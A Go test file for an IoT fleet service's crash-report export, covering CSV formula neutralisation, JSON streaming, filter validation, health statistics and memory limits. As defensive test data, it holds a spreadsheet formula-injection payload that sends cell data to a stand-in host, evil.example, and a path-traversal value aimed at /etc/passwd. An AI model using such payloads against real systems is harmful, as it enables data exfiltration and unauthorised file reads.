package insight_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/url"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/moat-iot/moat/internal/device"
	"github.com/moat-iot/moat/internal/errreport"
	"github.com/moat-iot/moat/internal/ident"
	"github.com/moat-iot/moat/internal/insight"
	"github.com/moat-iot/moat/internal/problem"
	"github.com/moat-iot/moat/internal/store"
	"github.com/moat-iot/moat/internal/store/sqldb"
	"github.com/moat-iot/moat/internal/store/sqlite"
	"github.com/moat-iot/moat/internal/tenant"
)

var t0 = time.Date(2026, 3, 4, 5, 0, 0, 0, time.UTC)

// fixture is a SQLite store with one tenant.
type fixture struct {
	t      testing.TB
	s      *sqldb.DB
	tenant tenant.ID
	n      int
}

func newFixture(t testing.TB) *fixture {
	t.Helper()
	s, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "moat.db"), time.Now)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	f := &fixture{t: t, s: s, tenant: tenant.ID(ident.New(tenant.IDPrefix, t0))}
	f.must(func(tx store.Tx) error {
		return tx.Tenants().Create(context.Background(), tenant.Tenant{ID: f.tenant, Name: "Contoso", CreatedAt: t0, UpdatedAt: t0, Version: 1})
	})
	return f
}

func (f *fixture) must(fn func(store.Tx) error) {
	f.t.Helper()
	if err := f.s.InTx(context.Background(), fn); err != nil {
		f.t.Fatal(err)
	}
}

// device registers and claims a device with a valid (64 hex digit) ID.
func (f *fixture) device() device.Device {
	f.t.Helper()
	f.n++
	sum := sha256.Sum256([]byte(fmt.Sprint("device ", f.n)))
	d := device.Device{ID: device.ID(hex.EncodeToString(sum[:])), PublicKeyPEM: "key", RegisteredAt: t0, Floors: map[string]uint32{}, Version: 1}
	f.must(func(tx store.Tx) error {
		if err := tx.Devices().Register(context.Background(), d); err != nil {
			return err
		}
		var err error
		d, err = tx.Devices().Claim(context.Background(), d.ID, f.tenant, t0)
		return err
	})
	return d
}

// attest records a successful attestation of the app image at the time.
func (f *fixture) attest(d device.Device, at time.Time, path, version string) device.Device {
	f.t.Helper()
	d.Attestation = &device.Attestation{At: at, Serial: fmt.Sprint(at.UnixNano()),
		Images: []device.Measurement{{Kind: "app", Path: path, SHA256: strings.Repeat("ab", 32), Version: version, SecurityVersion: 1}}}
	d.Version++
	f.must(func(tx store.Tx) error { return tx.Devices().Update(context.Background(), d) })
	return d
}

func (f *fixture) add(d device.Device, r errreport.Report, received time.Time) {
	f.t.Helper()
	f.must(func(tx store.Tx) error {
		tt, err := tx.ForTenant(f.tenant)
		if err != nil {
			return err
		}
		return tt.ErrorReports().Add(context.Background(), d.ID, r, received)
	})
}

func crash(at time.Time, path, version, message string) errreport.Report {
	code := 2
	return errreport.Report{ID: errreport.NewID(at), Kind: errreport.AppCrash, At: at, ImagePath: path, ImageVersion: version,
		Message: message, ExitCode: &code, UptimeSeconds: 42, StderrTail: "panic: heater\n"}
}

// TestExportCSV_NeutralisesFormulas: a cell a spreadsheet would read as a formula (it
// starts with =, +, -, @ or a tab) is shown as text, with a single quote in front; others
// are unchanged. Report text is the device's (rule 5).
func TestExportCSV_NeutralisesFormulas(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	d := f.device()
	messages := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"+1":           "'+1",
		"-2":           "'-2",
		"@SUM(A1:A9)":  "'@SUM(A1:A9)",
		"\t=1+1":       "'\t=1+1",
		"heater 2 = 3": "heater 2 = 3",
		"":             "",
	}
	i := 0
	for m := range messages {
		i++
		f.add(d, crash(t0.Add(time.Duration(i)*time.Second), "apps/dw100/1.0.0", "1.0.0", m), t0.Add(time.Duration(i)*time.Minute))
	}
	var buf bytes.Buffer
	n, err := insight.Export(t.Context(), f.s, f.tenant, store.ReportFilter{}, &buf, insight.ExportOptions{Format: insight.CSV})
	if err != nil || n != int64(len(messages)) {
		t.Fatalf("Export(csv) = %d, %v, want %d, nil", n, err, len(messages))
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(insight.CSVColumns, rows[0]); d != "" {
		t.Errorf("CSV header mismatch (-want +got):\n%s", d)
	}
	col := slices.Index(insight.CSVColumns, "message")
	got := map[string]bool{}
	for _, r := range rows[1:] {
		got[r[col]] = true
	}
	for in, want := range messages {
		if !got[want] {
			t.Errorf("CSV message cells = %q, want %q for a report saying %q", slices.Sorted(mapsKeys(got)), want, in)
		}
	}
	for _, r := range rows[1:] {
		for j, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("CSV cell %s = %q starts a formula", insight.CSVColumns[j], c)
			}
		}
	}
}

func mapsKeys(m map[string]bool) func(func(string) bool) {
	return func(yield func(string) bool) {
		for k := range m {
			if !yield(k) {
				return
			}
		}
	}
}

func TestNeutralise(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"1-2": "1-2", "a=b": "a=b", "": "", "'=1": "'=1", "2026-03-04T05:00:00Z": "2026-03-04T05:00:00Z",
	} {
		if got := insight.Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestExportJSON_IsTheListStreamed: the JSON download is one array of the objects the
// report list returns, newest received first.
func TestExportJSON_IsTheListStreamed(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	d1, d2 := f.device(), f.device()
	for i := range 7 {
		d := d1
		if i%2 == 1 {
			d = d2
		}
		f.add(d, crash(t0, "apps/dw100/1.0.0", "1.0.0", fmt.Sprint("crash ", i)), t0.Add(time.Duration(i/2)*time.Second))
	}
	var want []store.TenantReport
	err := f.s.InReadTx(t.Context(), func(tx store.Tx) error {
		tt, _ := tx.ForTenant(f.tenant)
		var err error
		want, err = tt.ErrorReports().ListTenant(t.Context(), store.ReportFilter{}, store.ReportCursor{}, 0)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	// Batches of 2, so that the download crosses several keyset pages and a tie.
	if _, err := insight.Export(t.Context(), f.s, f.tenant, store.ReportFilter{}, &buf, insight.ExportOptions{Format: insight.JSON, Batch: 2}); err != nil {
		t.Fatal(err)
	}
	var got []store.TenantReport
	if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
		t.Fatalf("the JSON download is not one JSON array: %v\n%s", err, buf.Bytes())
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("JSON download mismatch (-list +download):\n%s", d)
	}

	// Empty: a valid empty array.
	buf.Reset()
	if _, err := insight.Export(t.Context(), f.s, f.tenant, store.ReportFilter{Kind: errreport.Agent}, &buf, insight.ExportOptions{Format: insight.JSON}); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(buf.Bytes(), &got); err != nil || len(got) != 0 {
		t.Errorf("empty JSON download = %q, want an empty array", buf.Bytes())
	}
}

func TestParseFilter_RejectsBadValues(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		query, field string
	}{
		{"kind=crash", "kind"},
		{"since=yesterday", "since"},
		{"until=2026-13-01T00:00:00Z", "until"},
		{"since=2026-02-01T00:00:00Z&until=2026-01-01T00:00:00Z", "until"},
		{"group=grp_1", "group"},
		{"product=prd%20x", "product"},
		{"device=ABC", "device"},
		{"image_path=../../etc/passwd", "image_path"},
		{"image_version=a%20b", "image_version"},
		{"kind=app_crash&kind=agent", "kind"},
	} {
		q, _ := url.ParseQuery(c.query)
		_, err := insight.ParseFilter(q)
		p, ok := errors.AsType[*problem.Error](err)
		if !ok || p.Kind != problem.Invalid || p.Field != c.field {
			t.Errorf("ParseFilter(%s) = %v, want an Invalid problem on field %s", c.query, err, c.field)
		}
	}
	q, _ := url.ParseQuery("product=prd_1&group=grp_2&kind=app_crash&since=2026-01-01T00:00:00Z&image_path=apps/dw100/1.0.0&image_version=1.0.0")
	f, err := insight.ParseFilter(q)
	want := store.ReportFilter{ProductID: "prd_1", GroupID: "grp_2", Kind: errreport.AppCrash, ImagePath: "apps/dw100/1.0.0",
		ImageVersion: "1.0.0", Since: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)}
	if err != nil || !cmp.Equal(f, want) {
		t.Errorf("ParseFilter(%s) = %+v, %v, want %+v", q.Encode(), f, err, want)
	}
}

func TestDecodeCursor_RoundTrips(t *testing.T) {
	t.Parallel()
	r := store.TenantReport{DeviceID: device.ID(strings.Repeat("ab", 32)), ReceivedAt: t0.Add(123 * time.Microsecond),
		Report: errreport.Report{ID: errreport.NewID(t0)}}
	got, err := insight.DecodeCursor(insight.PagePosition(r))
	if err != nil || !cmp.Equal(got, r.Cursor()) {
		t.Errorf("DecodeCursor(PagePosition(r)) = %+v, %v, want %+v", got, err, r.Cursor())
	}
	if len(insight.PagePosition(store.TenantReport{DeviceID: r.DeviceID, ReceivedAt: time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC),
		Report: errreport.Report{ID: "123e4567-e89b-12d3-a456-426614174000"}})) > 128 {
		t.Errorf("the longest page position does not fit a page token")
	}
	for _, bad := range []string{"x", "1 2 3", "1 " + string(r.DeviceID) + " nope"} {
		if _, err := insight.DecodeCursor(bad); err == nil {
			t.Errorf("DecodeCursor(%q) = nil error, want invalid_page_token", bad)
		}
	}
}

// TestHealth_KnownFigures: four devices run 1.0.0 for ten hours each in the window, one
// crashed once: 75% crash-free, 1 / 40 = 0.025 crashes per device-hour.
func TestHealth_KnownFigures(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	const path = "apps/dw100/1.0.0"
	var ds []device.Device
	for range 4 {
		ds = append(ds, f.attest(f.attest(f.device(), t0, path, "1.0.0"), t0.Add(10*time.Hour), path, "1.0.0"))
	}
	f.add(ds[2], crash(t0.Add(time.Hour), path, "1.0.0", "boom"), t0.Add(2*time.Hour))
	// 2.0.0 crashed on a device that rolled back: counted, but it runs nowhere.
	f.add(ds[3], crash(t0.Add(time.Hour), "apps/dw100/2.0.0", "2.0.0", "boom"), t0.Add(2*time.Hour))

	got, err := insight.Health(t.Context(), f.s, f.tenant, insight.HealthQuery{Now: t0.Add(24 * time.Hour)})
	if err != nil {
		t.Fatal(err)
	}
	pct, rate := 75.0, 0.025
	want := insight.HealthReport{From: t0.Add(24*time.Hour - insight.DefaultWindow), Until: t0.Add(24 * time.Hour), Window: "168h0m0s",
		Versions: []insight.VersionHealth{
			{Kind: "app", Target: path, Version: "1.0.0", Devices: 4, CrashedDevices: 1, CrashFreePercent: &pct, Crashes: 1, DeviceHours: 40, CrashesPerDeviceHour: &rate},
			{Kind: "app", Target: "apps/dw100/2.0.0", Version: "2.0.0", Crashes: 1},
		}}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("Health mismatch (-want +got):\n%s", d)
	}
}

func TestParseWindow(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]time.Duration{"": insight.DefaultWindow, "24h": 24 * time.Hour, "2160h": insight.MaxWindow} {
		if got, err := insight.ParseWindow(in); err != nil || got != want {
			t.Errorf("ParseWindow(%q) = %v, %v, want %v", in, got, err, want)
		}
	}
	for _, in := range []string{"7d", "-1h", "0s", "59m", "2161h", "1e9h"} {
		if _, err := insight.ParseWindow(in); err == nil {
			t.Errorf("ParseWindow(%q) = nil error, want invalid_window", in)
		}
	}
}

// insertReports adds n app_crash reports spread over the devices with direct SQL: one
// INSERT that generates the rows (the store's Add keeps a per-device bound and costs a
// few statements a report). Report i is received i seconds after start, but every tenth
// shares its receive time with the one before, so that batches end in ties; times are
// whole seconds, stored as the driver stores a time.
func insertReports(t testing.TB, f *fixture, devices []device.Device, n int, start time.Time) {
	t.Helper()
	ctx := context.Background()
	tx, err := f.s.SQL().BeginTx(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer tx.Rollback()
	if _, err := tx.ExecContext(ctx, `CREATE TEMP TABLE IF NOT EXISTS devs (n INTEGER PRIMARY KEY, id TEXT NOT NULL)`); err != nil {
		t.Fatal(err)
	}
	if _, err := tx.ExecContext(ctx, `DELETE FROM devs`); err != nil {
		t.Fatal(err)
	}
	for i, d := range devices {
		if _, err := tx.ExecContext(ctx, `INSERT INTO devs (n, id) VALUES ($1, $2)`, i, d.ID); err != nil {
			t.Fatal(err)
		}
	}
	stderr := strings.Repeat("goroutine 1 [running]:\nmain.heat(0x2a)\n", 20)
	_, err = tx.ExecContext(ctx, `WITH RECURSIVE seq(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM seq WHERE i < $2 - 1),
		rep AS (SELECT i, printf('%026d', $3 + i) AS id, $4 + i AS at, $4 + i - (i % 10) / 9 AS received FROM seq)
		INSERT INTO error_reports (tenant_id, device_id, id, kind, at, received_at, body, image_path, image_version)
		SELECT $1, devs.id, rep.id, 'app_crash', strftime('%Y-%m-%d %H:%M:%S +0000 UTC', rep.at, 'unixepoch'),
			strftime('%Y-%m-%d %H:%M:%S +0000 UTC', rep.received, 'unixepoch'),
			json_object('id', rep.id, 'kind', 'app_crash', 'at', strftime('%Y-%m-%dT%H:%M:%SZ', rep.at, 'unixepoch'),
				'image_path', 'apps/dw100/1.0.0', 'image_version', '1.0.0', 'message', 'heater ' || rep.i || ' over temperature',
				'exit_code', 2, 'uptime_seconds', 42, 'stderr_tail', $5),
			'apps/dw100/1.0.0', '1.0.0'
		FROM rep JOIN devs ON devs.n = rep.i % $6`,
		f.tenant, n, start.Unix(), start.Unix(), stderr, len(devices))
	if err != nil {
		t.Fatal(err)
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
}

// peakWriter counts what it is given and samples the heap in use every megabyte.
type peakWriter struct {
	bytes, next int64
	rows        int64
	peak        uint64
}

func (w *peakWriter) Write(p []byte) (int, error) {
	w.bytes += int64(len(p))
	w.rows += int64(bytes.Count(p, []byte{'\n'}))
	if w.bytes >= w.next {
		w.next = w.bytes + 1<<20
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		w.peak = max(w.peak, m.HeapInuse)
	}
	return len(p), nil
}

// exportPeak exports every report as CSV and returns the peak heap in use while it ran.
func exportPeak(t testing.TB, f *fixture, want int64) uint64 {
	t.Helper()
	runtime.GC()
	w := &peakWriter{}
	n, err := insight.Export(context.Background(), f.s, f.tenant, store.ReportFilter{}, w, insight.ExportOptions{Format: insight.CSV})
	if err != nil || n != want {
		t.Fatalf("Export = %d, %v, want %d, nil", n, err, want)
	}
	return w.peak
}

// TestExport_ConstantMemory: the download holds one batch at a time, so the heap in use
// while exporting 200,000 reports is that of 20,000, not ten times as much. A download
// that loaded every report would hold some 300 MB here.
func TestExport_ConstantMemory(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	var ds []device.Device
	for range 50 {
		ds = append(ds, f.device())
	}
	small, large := 20_000/scale, 200_000/scale
	insertReports(t, f, ds, small, t0)
	smallPeak := exportPeak(t, f, int64(small))
	insertReports(t, f, ds, large-small, t0.Add(time.Duration(small)*time.Second))
	largePeak := exportPeak(t, f, int64(large))
	t.Logf("peak heap in use: %d MiB exporting %d reports, %d MiB exporting %d", smallPeak>>20, small, largePeak>>20, large)
	if largePeak > smallPeak+16<<20 {
		t.Errorf("peak heap exporting %d reports = %d MiB, want within 16 MiB of %d's %d MiB", large, largePeak>>20, small, smallPeak>>20)
	}
}

// BenchmarkExport_MillionReports downloads a million reports as CSV (inserting them takes
// a minute or two, so it is a benchmark, not a test) and reports the peak heap in use and
// the time against the same run's baseline: one bare scan of every report's body.
//
//	go test ./internal/insight -run '^$' -bench MillionReports -benchtime 1x
func BenchmarkExport_MillionReports(b *testing.B) {
	f := newFixture(b)
	var ds []device.Device
	for range 200 {
		ds = append(ds, f.device())
	}
	const n = 1_000_000
	insertReports(b, f, ds, n, t0)
	scan := func() time.Duration {
		start := time.Now()
		rows, err := f.s.SQL().QueryContext(b.Context(), `SELECT body FROM error_reports`)
		if err != nil {
			b.Fatal(err)
		}
		defer rows.Close()
		var body string
		for rows.Next() {
			if err := rows.Scan(&body); err != nil {
				b.Fatal(err)
			}
		}
		if err := rows.Err(); err != nil {
			b.Fatal(err)
		}
		return time.Since(start)
	}
	var peak uint64
	var base, export time.Duration
	for b.Loop() {
		base += scan()
		start := time.Now()
		peak = max(peak, exportPeak(b, f, n))
		export += time.Since(start)
	}
	b.ReportMetric(float64(peak>>20), "peak-heap-MiB")
	b.ReportMetric(float64(export)/float64(base), "x-bare-scan")
	if peak > 64<<20 {
		b.Errorf("peak heap exporting a million reports = %d MiB, want at most 64 MiB", peak>>20)
	}
}

var _ io.Writer = (*peakWriter)(nil)

// failingStore is the real store whose read transactions fail from the failAt-th on.
type failingStore struct {
	*sqldb.DB
	calls, failAt int
}

var errInjected = errors.New("injected read failure")

func (s *failingStore) InReadTx(ctx context.Context, fn func(store.Tx) error) error {
	s.calls++
	if s.calls >= s.failAt {
		return errInjected
	}
	return s.DB.InReadTx(ctx, fn)
}

// TestExport_ReadFailureMidwayIsAnError: when a batch cannot be read, Export returns the
// error and how many reports it wrote, never a short download that looks whole.
func TestExport_ReadFailureMidwayIsAnError(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	d := f.device()
	for i := range 5 {
		f.add(d, crash(t0, "apps/dw100/1.0.0", "1.0.0", fmt.Sprint("crash ", i)), t0.Add(time.Duration(i)*time.Second))
	}
	s := &failingStore{DB: f.s, failAt: 3}
	var buf bytes.Buffer
	n, err := insight.Export(t.Context(), s, f.tenant, store.ReportFilter{}, &buf, insight.ExportOptions{Format: insight.JSON, Batch: 2})
	if !errors.Is(err, errInjected) || n != 4 {
		t.Errorf("Export with the third batch failing = %d, %v; want 4 reports and the injected error", n, err)
	}
	if json.Valid(buf.Bytes()) {
		t.Errorf("the cut-off JSON download is a valid document: %s", buf.Bytes())
	}
}
